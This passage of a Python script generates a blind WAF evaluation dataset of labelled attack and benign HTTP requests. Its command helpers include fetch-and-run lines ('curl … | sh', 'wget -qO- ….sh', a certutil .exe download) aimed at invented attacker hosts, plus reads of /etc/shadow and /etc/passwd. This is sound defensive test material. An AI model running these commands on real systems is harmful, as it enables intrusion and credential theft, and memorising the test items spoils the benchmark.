#!/usr/bin/env python3
# ruff: noqa
"""Blind WAF evaluation set, source tag "v19" (waf_unseen_tenth.jsonl).

Provenance: written blind on 2026-12-07 by a helper session that read none of
the WAF's rules, tests, docs, benchmarks or corpora.  Attack payloads were
composed from general knowledge of the techniques (not copied from public
payload lists); benign traffic was composed from general knowledge of ordinary
web/API usage.  Source tag "v19"; all randomness comes from
random.Random(101010), so two runs give byte-identical output.  Standard
library only.  Run from the repository root:

    python3 tests/data/make_waf_unseen_tenth.py

Output: waf_unseen_tenth.jsonl next to this script, one JSON object per line
with keys in exactly this order:

  id         "v19-a-<category>-NNNN" (attack) / "v19-b-<category>-NNNN"
             (benign), numbered per category from 0001
  label      "attack" or "benign"
  category   attack: java_injection, php_injection, code_injection, rfi,
             ssrf, rce, sqli, nosqli, ldapi, ssti, crlf, mail_injection, xss,
             path_traversal, xxe, log4shell (45 rows each, 720 in all);
             benign: benign_api_json, benign_headers, benign_paths,
             benign_search, benign_prose, benign_richtext, benign_markdown,
             benign_code, benign_templates, benign_email, benign_ldap_like,
             benign_urls, benign_base64, benign_commerce, benign_graphql
             (70 rows each, 1050 in all); 1770 rows in total
  method     HTTP method
  path       raw, percent-encoded request path starting with "/"
  query      raw query string without "?", "" if none
  headers    object; always Host, User-Agent, Accept, plus Content-Type when
             there is a body; header values are ASCII without CR/LF
  body       raw body ("" if none): JSON, urlencoded form, multipart/form-data
             (CRLF framing, boundary in Content-Type) or XML
  placement  query, query_key, path, json, json_key, form, header, cookie,
             multipart or xml.  For query_key / json_key the payload is the
             parameter name / object key; a form row whose payload is a
             bracketed parameter name (e.g. NoSQL "user[$ne]") carries it as
             the form key; a multipart row may carry the payload as a file's
             content or as its filename; an xml row is either a value inside
             an element or (xxe, XStream) the whole document.
  payload    the value as the application receives it after the intended
             decoding (URL-decoding for query/form/path/cookie, JSON
             unescaping, XML entity decoding; header values are not decoded).
             Deliberate encoded evasions (double percent-encoding, %uXXXX,
             overlong UTF-8, ...) are kept literally.  For JSON values that are
             objects or arrays (NoSQL operators, gadget objects, structured
             benign values) the payload is the compact JSON text.
  hard       true for evasive attacks and for benign rows deliberately prone
             to false positives
  source     "v19"

About 40 % of the attack rows (18 of 45 per category) are terse fragments
(minimal request, tool User-Agent, no extra headers); the rest are realistic
requests.  No two attack rows share a payload string, and no two benign rows
share one either.  About a fifth of the benign rows use API/tool clients.

Bodies are valid for their Content-Type: every JSON body parses (some evasive
attack rows escape payload characters as JSON backslash-u escapes, which still
decodes to the stated payload); form bodies are urlencoded; multipart bodies
use CRLF framing; every benign XML body and every XML-value row is
well-formed.  A few xxe rows are deliberately not well-formed XML (a parameter
entity declared inside the internal subset, a UTF-7 encoded document).
"""

import base64
import codecs
import hashlib
import json
import os
import re
import random
import string
import zlib
import xml.parsers.expat
from urllib.parse import quote, quote_plus, unquote, parse_qsl

SEED = 101010
R = random.Random(SEED)
SRC = "v19"
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "waf_unseen_tenth.jsonl")
N_ATTACK = 45
N_TERSE = 18
N_BENIGN = 70
PATH_SAFE = "!$&'()*+,;=:@"
COOKIE_SAFE = "!#$&'()*+-./:<=>?@[]^_`{|}~"

# --------------------------------------------------------------------------
# small helpers
# --------------------------------------------------------------------------

ALNUM = string.ascii_lowercase + string.digits


def pick(seq):
    return R.choice(seq)


def ri(a, b):
    return R.randint(a, b)


def tok(a=4, b=8):
    return "".join(R.choice(ALNUM) for _ in range(ri(a, b)))


def alpha(a=4, b=8):
    return "".join(R.choice(string.ascii_lowercase) for _ in range(ri(a, b)))


def hexs(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def uuid4():
    h = hexs(32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], pick("89ab"), h[17:20], h[20:32])


def b64(s):
    if isinstance(s, str):
        s = s.encode("utf-8")
    return base64.b64encode(s).decode()


def b64u(s):
    if isinstance(s, str):
        s = s.encode("utf-8")
    return base64.urlsafe_b64encode(s).decode().rstrip("=")


def rbytes(n):
    return bytes(R.getrandbits(8) for _ in range(n))


def rcase(s):
    while True:
        out = "".join(c.upper() if R.random() < 0.5 else c.lower() for c in s)
        if out not in (s, s.lower(), s.upper()) or len([c for c in s if c.isalpha()]) < 3:
            return out


_PH = re.compile(r"<<[a-z0-9_]+>>")


def S(_tpl, **kw):
    for k, v in kw.items():
        _tpl = _tpl.replace("<<" + k + ">>", str(v))
    m = _PH.search(_tpl)
    if m:
        raise ValueError("unfilled placeholder %s" % m.group(0))
    return _tpl


def compact(o):
    return json.dumps(o, separators=(",", ":"), ensure_ascii=False)


def A(payload, hard=False, places=None, **kw):
    d = {"payload": payload, "hard": bool(hard), "places": places}
    d.update(kw)
    return d


def OBJ(o, hard=False, places=None, **kw):
    return A(compact(o), hard, places or ["json"], obj=o, **kw)


def date(y=2026):
    return "%d-%02d-%02d" % (y, ri(1, 12), ri(1, 28))


def ts():
    return 1790000000 + ri(0, 9000000)


FIRST = [
    "olivia",
    "liam",
    "ana",
    "mateo",
    "priya",
    "kenji",
    "fatima",
    "lukas",
    "chloe",
    "diego",
    "amara",
    "noah",
    "sofia",
    "yusuf",
    "ingrid",
    "tomas",
    "mei",
    "omar",
    "hannah",
    "rafael",
    "zoe",
    "arjun",
    "leila",
    "sven",
    "grace",
    "emeka",
    "nadia",
    "pablo",
    "hiro",
    "elena",
]
LAST = [
    "garcia",
    "nguyen",
    "okafor",
    "schmidt",
    "rossi",
    "tanaka",
    "kowalski",
    "haddad",
    "silva",
    "oconnor",
    "larsen",
    "patel",
    "dubois",
    "kim",
    "murphy",
    "novak",
    "fischer",
    "moreau",
    "yilmaz",
    "ivanova",
    "mensah",
    "lindqvist",
    "costa",
    "herrera",
    "brennan",
    "sato",
]
WORDS = [
    "amber",
    "basalt",
    "cinder",
    "delta",
    "ember",
    "fjord",
    "granite",
    "harbor",
    "indigo",
    "juniper",
    "kestrel",
    "lumen",
    "marble",
    "nimbus",
    "onyx",
    "pylon",
    "quartz",
    "raven",
    "sierra",
    "tundra",
    "umbra",
    "vertex",
    "willow",
    "xenon",
    "yarrow",
    "zephyr",
    "copper",
    "meadow",
    "falcon",
    "lagoon",
]
CITIES = [
    "Lisbon",
    "Osaka",
    "Toronto",
    "Nairobi",
    "Krakow",
    "Austin",
    "Melbourne",
    "Bergen",
    "Valparaiso",
    "Leeds",
    "Ghent",
    "Porto",
    "Calgary",
    "Pune",
    "Tallinn",
    "Cork",
]
COMPANIES = [
    "Northwind Labs",
    "Harborline",
    "Quill & Pine",
    "Tessellate",
    "Meadowbrook Clinic",
    "Grainstack",
    "Lantern Press",
    "Orbitcart",
    "Kelpforge",
    "Fernhollow",
    "Slatebridge",
    "Copper Kettle Co.",
    "Birchway Hotels",
    "Tidepool Analytics",
]
MAIL_DOMAINS = [
    "gmail.com",
    "outlook.com",
    "yahoo.co.uk",
    "proton.me",
    "icloud.com",
    "gmx.de",
    "northwind-labs.io",
    "harborline.co",
    "fastmail.com",
    "web.de",
    "hey.com",
]
APP_HOSTS = [
    "api.northwind-labs.io",
    "portal.harborline.co",
    "shop.quillandpine.com",
    "app.tessellate.dev",
    "www.meadowbrookclinic.org",
    "admin.grainstack.net",
    "cms.lanternpress.com",
    "billing.orbitcart.io",
    "status.kelpforge.com",
    "auth.fernhollow.app",
    "docs.slatebridge.dev",
    "support.copperkettle.co",
    "m.riverstonebank.com",
    "api.glimmerfin.com",
    "intranet.pebbletrack.io",
    "www.birchway-hotels.com",
    "graph.tidepool.io",
    "files.amberloom.net",
]
ATK_BASES = [
    "kq7x.net",
    "pwn-relay.xyz",
    "cdn-syncr.top",
    "rbx9.pw",
    "ext-assets.click",
    "ns-lookup.cc",
    "mirror-files.ru",
    "cb-relay.io",
    "stage2.site",
    "tmp-drop.biz",
    "oob-cat.com",
    "zx81.link",
    "hookcatch.net",
    "darkpaste.org",
    "payl0ad.space",
    "c2-beacon.info",
    "updatesvc.top",
]
LEGIT_HOSTS = [
    "www.google.com",
    "trusted-partner.com",
    "images.unsplash.com",
    "cdn.shopify.com",
    "example.com",
    "github.com",
    "s3.amazonaws.com",
    "api.stripe.com",
]


def first():
    return pick(FIRST)


def last():
    return pick(LAST)


def person():
    return first().title() + " " + last().title()


def email_addr():
    f, l = first(), last()
    local = pick([f + "." + l, f + l[0], f[0] + l, f + "_" + l + str(ri(1, 99)), f + str(ri(70, 99))])
    return local + "@" + pick(MAIL_DOMAINS)


def ahost():
    return (
        pick([tok(3, 6), alpha(4, 7) + str(ri(1, 99)), pick(WORDS) + "-" + tok(3, 4), tok(6, 10)])
        + "."
        + pick(ATK_BASES)
    )


def aip():
    if R.random() < 0.5:
        return "%s.%d" % (pick(["198.51.100", "203.0.113", "192.0.2"]), ri(2, 254))
    return "%d.%d.%d.%d" % (ri(45, 95), ri(1, 254), ri(1, 254), ri(2, 254))


def aport():
    return pick([80, 443, 8000, 8080, 8443, 1389, 4444, 9001, 53, 9999, 31337, 1337, 7777, 4443])


def ucmd():
    return pick(
        [
            "id",
            "whoami",
            "uname -a",
            "cat /etc/passwd",
            "hostname",
            "ls -la /",
            "cat /etc/shadow",
            "ps aux",
            "env",
            "cat /proc/version",
            "pwd",
            "cat /etc/issue",
            "ls /home",
            "netstat -an",
            "uname -r",
            "id -u",
            "ls -la /var/www",
            "cat /etc/hosts",
            "curl -s http://%s/%s" % (ahost(), tok()),
            "curl http://%s:%d/%s" % (aip(), aport(), tok()),
            "wget -q http://%s/%s" % (ahost(), tok()),
            "nslookup %s.%s" % (tok(), ahost()),
            "ping -c %d %s" % (ri(2, 6), aip()),
            "sleep %d" % ri(3, 15),
            "touch /tmp/%s" % tok(),
            "curl -s %s|sh" % ahost(),
            "wget -qO- http://%s/%s.sh" % (aip(), tok()),
        ]
    )


def short_cmd():
    return pick(
        [
            "id",
            "whoami",
            "uname -a",
            "hostname",
            "pwd",
            "ls -la",
            "ps aux",
            "env",
            "id -u",
            "uname -r",
            "sleep %d" % ri(3, 12),
            "touch /tmp/%s" % tok(3, 5),
        ]
    )


def wcmd():
    return pick(
        [
            "whoami",
            "ipconfig /all",
            "dir C:\\",
            "type C:\\Windows\\win.ini",
            "net user",
            "systeminfo",
            "tasklist",
            "net localgroup administrators",
            "whoami /priv",
            "ver",
            "hostname",
            "certutil -urlcache -split -f http://%s/%s.exe %%TEMP%%\\%s.exe" % (ahost(), tok(), tok()),
            "ping -n %d %s" % (ri(3, 9), aip()),
            "nslookup %s.%s" % (tok(), ahost()),
        ]
    )


def dec_ip(ip):
    a, b, c, d = [int(x) for x in ip.split(".")]
    return str((a << 24) | (b << 16) | (c << 8) | d)


def oct_ip(ip):
    return ".".join("0" + format(int(x), "o") if int(x) else "0" for x in ip.split("."))


def hex_ip(ip):
    return ".".join(hex(int(x)) for x in ip.split("."))


def jwt(claims=None):
    hdr = {"alg": pick(["HS256", "RS256", "ES256"]), "typ": "JWT"}
    if hdr["alg"] != "HS256" and R.random() < 0.6:
        hdr["kid"] = tok(8, 12)
    c = claims or {
        "sub": uuid4(),
        "iat": ts(),
        "exp": ts() + 3600,
        "scope": pick(["read:orders", "openid profile email", "api.read api.write", "user"]),
    }
    sig = b64u(rbytes(pick([32, 32, 64])))
    return b64u(compact(hdr)) + "." + b64u(compact(c)) + "." + sig


# --------------------------------------------------------------------------
# user agents and request decoration
# --------------------------------------------------------------------------


def ua_browser():
    v = ri(118, 131)
    return pick(
        [
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.%d.%d Safari/537.36"
            % (v, ri(5000, 6800), ri(10, 200)),
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36"
            % v,
            "Mozilla/5.0 (X11; Linux x86_64; rv:%d.0) Gecko/20100101 Firefox/%d.0" % (v, v),
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:%d.0) Gecko/20100101 Firefox/%d.0" % (v, v),
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_%d like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.%d Mobile/15E148 Safari/604.1"
            % (ri(0, 6), ri(0, 6)),
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36 Edg/%d.0.%d.%d"
            % (v, v, ri(2000, 2900), ri(10, 99)),
            "Mozilla/5.0 (Linux; Android %d; Pixel %d) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Mobile Safari/537.36"
            % (ri(11, 14), ri(5, 8), v),
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.%d Safari/605.1.15"
            % ri(0, 6),
        ]
    )


def ua_app():
    return pick(
        [
            "okhttp/4.12.0",
            "Dart/3.3 (dart:io)",
            "Harborline/5.%d.0 (iPhone; iOS 17.4; Scale/3.00)" % ri(1, 20),
            "Orbitcart/2.%d.1 (Android 14; SM-S911B)" % ri(1, 30),
            "python-requests/2.31.0",
            "axios/1.6.8",
            "Go-http-client/2.0",
            "PostmanRuntime/7.37.0",
            "Apache-HttpClient/4.5.14 (Java/17.0.10)",
            "Tessellate-Sync/1.%d (Windows 10)" % ri(0, 40),
        ]
    )


TOOL_UAS = [
    "curl/8.5.0",
    "curl/7.81.0",
    "curl/8.9.1",
    "python-requests/2.31.0",
    "python-requests/2.32.3",
    "Go-http-client/1.1",
    "Wget/1.21.4",
    "HTTPie/3.2.2",
    "python-httpx/0.27.0",
    "libwww-perl/6.76",
    "Java/17.0.10",
    "aiohttp/3.9.5",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4291",
    "Ruby",
    "Python-urllib/3.11",
]

LANGS = [
    "en-US,en;q=0.9",
    "en-GB,en;q=0.9",
    "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7",
    "fr-FR,fr;q=0.9,en;q=0.8",
    "es-ES,es;q=0.9",
    "pt-BR,pt;q=0.9,en-US;q=0.8",
    "ja-JP,ja;q=0.9,en;q=0.8",
    "nl-NL,nl;q=0.9,en;q=0.6",
    "pl-PL,pl;q=0.9,en-US;q=0.8",
    "en-US,en;q=0.5",
]
REFS = [
    "/",
    "/dashboard",
    "/account/settings",
    "/search?q=shoes",
    "/products/1187",
    "/app/inbox",
    "/home",
    "/admin/users",
    "/checkout/cart",
    "/docs/getting-started",
    "/reports?range=30d",
    "/login",
]


def session_cookie():
    return pick(
        [
            "session=%s" % hexs(32),
            "sid=%s" % b64u(rbytes(18)),
            "JSESSIONID=%s" % hexs(32).upper(),
            "PHPSESSID=%s" % tok(26, 26),
            "_ga=GA1.1.%d.%d; session=%s" % (ri(100000000, 999999999), ts(), hexs(24)),
            "connect.sid=s%%3A%s.%s" % (tok(20, 24), b64u(rbytes(24))),
            "csrftoken=%s; sessionid=%s" % (tok(32, 32), tok(32, 32)),
        ]
    )


def extras(host, kind, has_body):
    e = {}
    if kind == "browser":
        e["Accept-Language"] = pick(LANGS)
        e["Accept-Encoding"] = pick(["gzip, deflate, br", "gzip, deflate, br, zstd", "gzip, deflate"])
        if R.random() < 0.7:
            e["Referer"] = "https://%s%s" % (host, pick(REFS))
        if has_body or R.random() < 0.2:
            e["Origin"] = "https://" + host
        if R.random() < 0.55:
            e["Cookie"] = session_cookie()
        if R.random() < 0.4:
            e["Sec-Fetch-Site"] = "same-origin"
            e["Sec-Fetch-Mode"] = pick(["cors", "navigate", "same-origin"])
            e["Sec-Fetch-Dest"] = pick(["empty", "document"])
        if R.random() < 0.25:
            e["X-Requested-With"] = "XMLHttpRequest"
        if has_body and R.random() < 0.3:
            e["X-CSRF-Token"] = b64u(rbytes(24))
    else:
        e["Accept-Encoding"] = "gzip"
        r = R.random()
        if r < 0.5:
            e["Authorization"] = "Bearer " + jwt()
        elif r < 0.7:
            e["X-Api-Key"] = "live_" + tok(24, 32)
        if R.random() < 0.5:
            e["X-Request-Id"] = uuid4()
        if R.random() < 0.3:
            e["X-Client-Version"] = "%d.%d.%d" % (ri(1, 6), ri(0, 30), ri(0, 9))
    return e


# --------------------------------------------------------------------------
# request contexts per category
# --------------------------------------------------------------------------


def C(paths, params, hdrs=None, cookies=None, prefixes=None, xmlroot=None):
    return {
        "paths": paths,
        "params": params,
        "hdrs": hdrs or ["User-Agent", "Referer"],
        "cookies": cookies or ["prefs", "lang"],
        "prefixes": prefixes or paths[:3],
        "xmlroot": xmlroot or ["request", "record", "entry", "message", "item", "params"],
    }


CTX = {
    "java_injection": C(
        [
            "/api/v1/search",
            "/login.action",
            "/index.action",
            "/app/user/profile",
            "/api/expressions/evaluate",
            "/rest/report/preview",
            "/portal/welcome.do",
            "/jsf/home.xhtml",
            "/api/v2/rules/test",
            "/console/render",
        ],
        [
            "q",
            "filter",
            "expression",
            "name",
            "redirect",
            "message",
            "template",
            "sortBy",
            "errorMsg",
            "lang",
            "condition",
        ],
        ["User-Agent", "Referer", "X-Forwarded-Host", "Accept-Language"],
        ["locale", "view_state", "lang", "user_pref"],
        ["/api/v1/items", "/portal/page", "/spring/view", "/api/translate"],
    ),
    "php_injection": C(
        [
            "/index.php",
            "/admin/config.php",
            "/wp-admin/admin-ajax.php",
            "/include.php",
            "/view.php",
            "/modules/gallery/index.php",
            "/api.php",
            "/cgi/calc.php",
            "/lib/ajax/service.php",
        ],
        ["page", "file", "cmd", "code", "data", "lang", "template", "module", "callback", "expr", "input", "filter"],
        ["User-Agent", "Referer", "X-Forwarded-For"],
        ["prefs", "cart", "user_settings", "lang", "remember"],
        ["/index.php", "/download", "/view", "/api/render"],
    ),
    "code_injection": C(
        [
            "/api/calc",
            "/api/v1/eval",
            "/tools/convert",
            "/api/formula/preview",
            "/sandbox/run",
            "/api/filters/test",
            "/report/compute",
            "/graph/expr",
        ],
        ["expr", "formula", "code", "input", "q", "value", "template", "sort", "filter", "callback", "fn"],
        ["User-Agent", "Referer", "X-Forwarded-For"],
        ["session_data", "prefs", "calc", "state"],
        ["/api/calc", "/eval", "/api/compute"],
    ),
    "rfi": C(
        [
            "/index.php",
            "/main.php",
            "/page.php",
            "/modules/index.php",
            "/include.php",
            "/show.php",
            "/template.php",
            "/portal/index.php",
            "/cms/content.php",
        ],
        [
            "page",
            "file",
            "include",
            "inc",
            "template",
            "lang",
            "module",
            "view",
            "path",
            "doc",
            "layout",
            "theme",
            "load",
            "pg",
        ],
        ["Referer"],
        ["lang", "template", "theme", "layout", "skin"],
        ["/index.php", "/load", "/include", "/view"],
    ),
    "ssrf": C(
        [
            "/api/fetch",
            "/proxy",
            "/api/v1/preview",
            "/api/webhooks/test",
            "/image/resize",
            "/api/import/url",
            "/render/pdf",
            "/oembed",
            "/api/avatar",
            "/feed/subscribe",
        ],
        [
            "url",
            "uri",
            "target",
            "dest",
            "webhook_url",
            "callback",
            "feed",
            "image_url",
            "avatar",
            "link",
            "src",
            "proxy",
            "endpoint",
            "imageUrl",
            "remote",
        ],
        ["X-Forwarded-Host", "Referer", "X-Wap-Profile", "X-Callback-Url"],
        ["return_url", "avatar_src", "feed"],
        ["/proxy", "/fetch", "/api/preview", "/image/remote"],
    ),
    "rce": C(
        [
            "/api/ping",
            "/tools/traceroute",
            "/admin/diagnostics",
            "/api/v1/convert",
            "/cgi-bin/status",
            "/api/dns/lookup",
            "/export/pdf",
            "/api/backup",
            "/network/test",
        ],
        ["host", "ip", "target", "domain", "filename", "file", "addr", "name", "format", "dir", "path", "count"],
        ["User-Agent", "X-Forwarded-For", "Referer"],
        ["lang", "device", "last_host"],
        ["/api/ping", "/files", "/convert", "/dns"],
    ),
    "sqli": C(
        [
            "/products",
            "/api/v1/users",
            "/search",
            "/item.php",
            "/api/orders",
            "/news",
            "/catalog/list",
            "/report",
            "/api/v2/accounts",
            "/login",
        ],
        [
            "id",
            "q",
            "sort",
            "order",
            "category",
            "user",
            "username",
            "page",
            "limit",
            "filter",
            "cat",
            "pid",
            "from",
            "search",
            "uid",
        ],
        ["User-Agent", "Referer", "X-Forwarded-For", "X-Tenant-Id", "X-Client-Id"],
        ["user_id", "tracking_id", "cart_id", "lang", "sort_pref", "session_token"],
        ["/products", "/api/v1/users", "/news", "/category", "/api/orders"],
    ),
    "nosqli": C(
        ["/api/login", "/api/users", "/api/v1/products/search", "/auth/signin", "/api/orders/find", "/api/v2/query"],
        ["username", "password", "user", "email", "filter", "query", "where", "token", "id", "role", "search", "q"],
        ["User-Agent"],
        ["session", "prefs", "filter"],
        ["/api/users", "/api/items"],
    ),
    "ldapi": C(
        [
            "/directory/search",
            "/api/people",
            "/login",
            "/auth/ldap",
            "/phonebook",
            "/admin/groups",
            "/api/v1/directory/lookup",
            "/sso/login",
        ],
        ["user", "username", "uid", "cn", "q", "name", "search", "mail", "group", "login", "filter", "sn"],
        ["X-Remote-User", "X-Forwarded-User"],
        ["last_user", "dir_search"],
        ["/directory/users", "/api/people", "/phonebook/entry"],
    ),
    "ssti": C(
        [
            "/preview",
            "/api/templates/render",
            "/greeting",
            "/profile",
            "/error",
            "/newsletter/preview",
            "/page",
            "/api/v1/emails/test",
            "/invite",
        ],
        ["name", "template", "msg", "greeting", "title", "content", "subject", "q", "bio", "error", "lang", "preview"],
        ["User-Agent", "Referer", "X-Forwarded-Host"],
        ["display_name", "theme", "greeting", "lang"],
        ["/hello", "/page", "/preview", "/profile"],
    ),
    "crlf": C(
        [
            "/redirect",
            "/login",
            "/logout",
            "/set-lang",
            "/api/track",
            "/go",
            "/download",
            "/callback",
            "/api/v1/session",
        ],
        [
            "url",
            "next",
            "return",
            "lang",
            "redirect_uri",
            "returnTo",
            "callback",
            "ref",
            "filename",
            "q",
            "locale",
            "target",
        ],
        ["X-Forwarded-Host", "Referer", "X-Request-Id", "User-Agent"],
        ["lang", "redirect", "pref", "locale"],
        ["/redirect", "/go", "/lang", "/download"],
    ),
    "mail_injection": C(
        [
            "/contact",
            "/api/contact",
            "/feedback",
            "/newsletter/subscribe",
            "/share/email",
            "/support/ticket",
            "/invite",
            "/password/reset",
        ],
        ["name", "email", "from", "subject", "reply_to", "to", "message", "friend_email", "sender", "cc"],
        ["From"],
        ["remembered_email", "contact_name"],
        ["/contact", "/share"],
    ),
    "xss": C(
        [
            "/search",
            "/comments",
            "/profile",
            "/api/v1/posts",
            "/guestbook",
            "/feedback",
            "/error",
            "/items",
            "/forum/reply",
            "/share",
        ],
        [
            "q",
            "name",
            "comment",
            "message",
            "title",
            "redirect",
            "callback",
            "search",
            "bio",
            "url",
            "ref",
            "text",
            "msg",
            "error",
        ],
        ["User-Agent", "Referer", "X-Forwarded-Host"],
        ["username", "display_name", "last_search", "theme", "lang"],
        ["/search", "/user", "/tag", "/p"],
    ),
    "path_traversal": C(
        [
            "/download",
            "/api/files",
            "/static",
            "/image",
            "/view",
            "/export",
            "/api/v1/attachments",
            "/docs",
            "/template",
            "/logs",
        ],
        [
            "file",
            "path",
            "filename",
            "name",
            "doc",
            "template",
            "page",
            "img",
            "src",
            "dir",
            "folder",
            "download",
            "attachment",
            "lang",
            "include",
        ],
        ["X-Original-URL", "X-Rewrite-URL", "X-File-Name", "Referer"],
        ["lang", "template", "theme", "layout"],
        ["/static", "/download", "/files", "/images", "/assets"],
    ),
    "xxe": C(
        [
            "/api/import",
            "/soap/UserService",
            "/upload",
            "/xmlrpc",
            "/api/v1/invoices",
            "/saml/acs",
            "/feeds/import",
            "/api/docs/convert",
            "/rss/parse",
            "/services/OrderService",
        ],
        ["xml", "data", "document", "payload", "feed", "content", "config"],
        ["User-Agent"],
        ["prefs"],
    ),
    "log4shell": C(
        [
            "/",
            "/login",
            "/api/v1/users",
            "/search",
            "/api/events",
            "/status",
            "/admin",
            "/solr/admin/cores",
            "/api/health",
            "/websso/SAML2/SSO",
        ],
        ["q", "user", "username", "search", "id", "name", "x", "callback", "lang", "page"],
        [
            "User-Agent",
            "X-Api-Version",
            "Referer",
            "X-Forwarded-For",
            "Authorization",
            "X-Request-Id",
            "Origin",
            "X-Client-IP",
            "True-Client-IP",
            "Accept-Language",
            "If-Modified-Since",
            "X-Wap-Profile",
            "Contact",
        ],
        ["session", "lang", "user", "remember_me", "tracking"],
        ["/api/v1/users", "/search", "/s"],
    ),
    # benign
    "benign_api_json": C(
        [
            "/api/v1/users/me",
            "/api/v2/settings",
            "/api/events",
            "/api/v1/orders",
            "/api/webhooks",
            "/api/v1/reports",
            "/api/v1/devices/telemetry",
            "/api/v3/projects",
            "/api/v1/articles",
        ],
        ["bio", "displayName", "filters", "settings", "data", "attributes", "note", "tags", "fields", "include"],
        ["X-Client-Config"],
        ["prefs"],
        ["/api/v1/items", "/api/v2/projects"],
    ),
    "benign_headers": C(
        [
            "/",
            "/api/v1/me",
            "/assets/app.js",
            "/dashboard",
            "/api/v2/feed",
            "/collect",
            "/products",
            "/webhooks/inbound",
        ],
        ["ua", "lang", "tz", "client", "ref", "trace"],
        ["User-Agent"],
        ["prefs"],
        ["/"],
    ),
    "benign_paths": C(
        ["/api/v1/redirect", "/login", "/files", "/api/v1/uploads", "/sitemap"],
        ["next", "return_to", "path", "redirect", "file", "from", "dest", "page"],
        ["X-Original-URI", "Referer"],
        ["last_path", "return_to"],
        ["/"],
    ),
    "benign_search": C(
        ["/search", "/api/v1/search", "/products/search", "/kb/search", "/s", "/api/suggest", "/forum/search", "/jobs"],
        ["q", "query", "search", "term", "keywords", "s", "k"],
        ["X-Search-Query"],
        ["recent_searches", "last_q"],
        ["/search", "/s", "/tag"],
    ),
    "benign_prose": C(
        ["/api/v1/comments", "/reviews", "/feedback", "/forum/posts", "/api/tickets", "/api/v1/messages", "/guestbook"],
        ["comment", "body", "message", "text", "review", "description", "content", "note"],
        ["X-Note"],
        ["draft"],
        ["/comments"],
    ),
    "benign_richtext": C(
        ["/api/v1/pages", "/admin/posts/edit", "/api/cms/blocks", "/kb/articles", "/api/v1/newsletters", "/wiki/save"],
        ["content", "body", "html", "description", "message", "bodyHtml", "text"],
        ["X-Note"],
        ["draft"],
        ["/pages"],
    ),
    "benign_markdown": C(
        ["/api/v1/issues", "/api/v1/notes", "/repos/acme/web/issues", "/api/wiki/pages", "/api/gists", "/forum/reply"],
        ["body", "content", "description", "text", "readme", "markdown"],
        ["X-Note"],
        ["draft"],
        ["/notes"],
    ),
    "benign_code": C(
        [
            "/api/v1/snippets",
            "/api/gists",
            "/support/tickets",
            "/api/v1/issues",
            "/paste",
            "/api/v1/answers",
            "/kb/submit",
        ],
        ["code", "content", "snippet", "body", "source", "description", "text"],
        ["X-Note"],
        ["draft"],
        ["/snippets"],
    ),
    "benign_templates": C(
        [
            "/api/v1/email-templates",
            "/admin/templates",
            "/api/notifications/templates",
            "/api/v1/pages/layout",
            "/marketing/campaigns",
        ],
        ["template", "body", "html", "content", "subject", "text", "layout"],
        ["X-Note"],
        ["draft"],
        ["/templates"],
    ),
    "benign_email": C(
        [
            "/contact",
            "/api/contact",
            "/newsletter/subscribe",
            "/support/ticket",
            "/api/v1/invitations",
            "/share/email",
            "/account/email",
        ],
        ["email", "name", "subject", "message", "reply_to", "from", "to", "cc"],
        ["From"],
        ["remembered_email"],
        ["/unsubscribe"],
    ),
    "benign_ldap_like": C(
        ["/directory/search", "/api/people", "/admin/ldap/browse", "/phonebook", "/api/v1/directory", "/admin/groups"],
        ["q", "filter", "cn", "dn", "search", "base", "uid", "ou", "group", "name", "mail"],
        ["X-Remote-User"],
        ["dir_search", "last_filter"],
        ["/directory/users", "/api/people", "/groups"],
    ),
    "benign_urls": C(
        [
            "/api/v1/links",
            "/api/webhooks",
            "/share",
            "/api/v1/bookmarks",
            "/oauth/authorize",
            "/api/v1/embeds",
            "/settings/integrations",
            "/api/feeds",
        ],
        ["url", "link", "webhook_url", "redirect_uri", "callback_url", "href", "source", "image_url", "feed_url"],
        ["Referer"],
        ["return_to", "last_url"],
        ["/go", "/r"],
    ),
    "benign_base64": C(
        [
            "/api/v1/uploads",
            "/api/v1/avatars",
            "/api/attachments",
            "/auth/token",
            "/api/v1/documents",
            "/api/push/subscribe",
            "/api/v1/keys",
        ],
        ["data", "content", "image", "file", "token", "avatar", "key", "cursor", "state"],
        ["Authorization"],
        ["session", "auth_token"],
        ["/api/v1/files", "/img"],
    ),
    "benign_commerce": C(
        [
            "/cart/add",
            "/api/v1/cart",
            "/checkout",
            "/api/v1/orders",
            "/products",
            "/api/v1/coupons/apply",
            "/account/addresses",
            "/api/v2/wishlist",
        ],
        ["sku", "qty", "coupon", "note", "address1", "address2", "gift_message", "product", "size", "variant"],
        ["X-Cart-Id"],
        ["cart", "currency", "recently_viewed"],
        ["/products", "/p", "/collections"],
    ),
    "benign_graphql": C(
        ["/graphql", "/api/graphql", "/v1/graphql", "/gql"], ["query"], ["X-Note"], ["prefs"], ["/graphql"]
    ),
}
GQL_OPS = [
    "GetUser",
    "Products",
    "AddToCart",
    "Repo",
    "Team",
    "Feed",
    "UpdateProfile",
    "Search",
    "Order",
    "IntrospectionQuery",
    "OnMessage",
    "DeleteComment",
]
CTX["benign_graphql"]["jextras"] = [
    (
        "variables",
        lambda: pick([{"id": uuid4()}, {"first": ri(5, 50)}, {}, {"slug": pick(WORDS)}, {"withComments": True}]),
    ),
    ("query", lambda: "query Viewer { viewer { id login } }"),
]
CTX["benign_graphql"]["qextras"] = [
    ("variables", lambda: compact(pick([{"id": uuid4()}, {"first": ri(5, 50)}, {"slug": pick(WORDS)}]))),
